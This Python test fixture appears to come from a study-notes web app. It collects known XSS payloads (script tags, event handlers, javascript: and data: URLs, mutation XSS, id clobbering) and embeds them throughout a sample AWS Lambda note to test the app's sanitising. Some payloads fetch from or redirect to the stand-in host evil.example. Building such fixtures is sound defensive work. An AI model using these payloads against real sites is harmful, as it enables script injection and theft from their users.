"""Known XSS payloads, and a valid note that carries them everywhere a note can hold text.

Each payload tries to run script (`alert`), to put an element with id `pwned` in the page, or
to make the browser fetch something from http://evil.example/. The note stays a note the
importer accepts (no table row gets an extra `|`), so every page that shows note content shows
them: the note page, its questions, the study feedback, the preview.
"""

from __future__ import annotations

EVIL = "http://evil.example"
# What a payload runs if it gets to run: a dialog, and the element the tests look for.
PWN = "alert(1);document.body.insertAdjacentHTML('beforeend','<i id=pwned></i>')"

PAYLOADS: tuple[str, ...] = (
    # Script tags, plain and disguised.
    f"<script>{PWN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    f"<SCRIPT>{PWN}</SCRIPT>",
    f"<svg><script>{PWN}</script></svg>",
    f"<template><script>{PWN}</script></template>",
    # Event handlers.
    f'<img src=x onerror="{PWN}">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    f'<svg onload="{PWN}">',
    f'<body onload="{PWN}">',
    f'<details open ontoggle="{PWN}">x</details>',
    f'<input autofocus onfocus="{PWN}">',
    f'<video><source onerror="{PWN}"></video>',
    f'<a href="{EVIL}/" onmouseover="{PWN}">hover me</a>',
    # javascript:, vbscript: and data: URLs, in HTML and in markdown.
    '<a href="javascript:alert(1)">js link</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "[markdown js link](javascript:alert(1))",
    "[markdown js entity](&#x6A;avascript:alert(1))",
    "<javascript:alert(1)>",
    f"<{EVIL}/?<script>{PWN}</script>>",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '[quote breakout](https://example.com" onmouseover="alert(1))',
    '![alt breakout" onerror="alert(1)](x)',
    # Frames, objects and other ways to load or navigate.
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/x.swf"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f'<form action="{EVIL}/"><button id="pwned">send</button></form>',
    f'<img srcset="{EVIL}/a.png 1x" src="x">',
    f'<svg><image href="{EVIL}/i.png"/></svg>',
    f'<video poster="{EVIL}/p.png"></video>',
    # Styles.
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    '<p style="width:expression(alert(1))">ie expression</p>',
    f"<style>@import url({EVIL}/x.css); body {{background:url({EVIL}/b.png)}}</style>",
    # Mutation XSS: markup that changes meaning when the browser re-parses it.
    f'<noscript><p title="</noscript><img src=x onerror="{PWN}">">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f'<svg></p><style><a id="</style><img src=1 onerror="{PWN}">">',
    f'<!--<img src=x onerror="{PWN}">-->',
    f"<textarea><script>{PWN}</script></textarea>",
    # Elements that would only exist if ids and tags were not filtered.
    '<h2 id="pwned">clobbering heading</h2>',
    '<img src="x" id="pwned">',
    '<div id="pwned">div</div>',
    # In code, payloads are text.
    f"`<script>{PWN}</script>`",
)

# Payloads short enough, and free of `|` and `;`, to sit inside table cells, signal rules
# (where `;` separates rules) and authored questions.
INLINE = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
)


def payload_note() -> str:
    """A valid note with payloads in its intro, headings, facts, signals, tables and questions."""
    img, svg, script, iframe, link = INLINE
    lines = [
        "# AWS Lambda – Serverless Functions",
        "",
        f"Run code without managing servers. {img} {script}",
        "",
        f"## 1. Limits {svg}",
        "",
        f"* Timeout: 15 minutes at most {img}",
        f"* Memory {script}: 128 MB to 10 GB",
        f"  - Ephemeral storage: up to 10 GB {iframe}",
        "",
        f"**Exam Signal:** If code must react to events {img} → AWS Lambda; "
        f"if a job runs for hours {svg} → AWS Batch",
        "",
        "## 2. Lambda vs Alternatives",
        "",
        "| Scenario | Use Lambda | Use Alternative |",
        "|---|---|---|",
        f"| Short event handlers {script} | ✅ Functions {img} | Amazon ECS {svg} |",
        f"| Jobs longer than 15 minutes {iframe} | ❌ Time limit {link} | AWS Batch |",
        "",
        "## 3. Summary",
        "",
        "| Keyword | Feature |",
        "|---|---|",
        f"| Reuse code across functions {img} | Lambda Layers |",
        f"| Cold starts must be avoided {svg} | Provisioned Concurrency |",
        "",
        "## 4. Exam Focus",
        "",
        "* Avoid Lambda if:",
        f"  - A job runs longer than 15 minutes {img} → use AWS Batch",
        "",
        "## 5. Attack Surface",
        "",
        *[line for payload in PAYLOADS for line in (payload, "")],
        "## 6. Practice",
        "",
        f"### Question: A nightly job runs for 6 hours {img}. Which service fits {script}?",
        f"- [ ] AWS Lambda {svg}",
        f"- [x] AWS Batch {img}",
        f"- [ ] Amazon EKS {script}",
        f"- [ ] Amazon Lightsail {link}",
        f"> Explanation: Lambda stops after 15 minutes {img} {iframe}.",
        "",
    ]
    return "\n".join(lines)
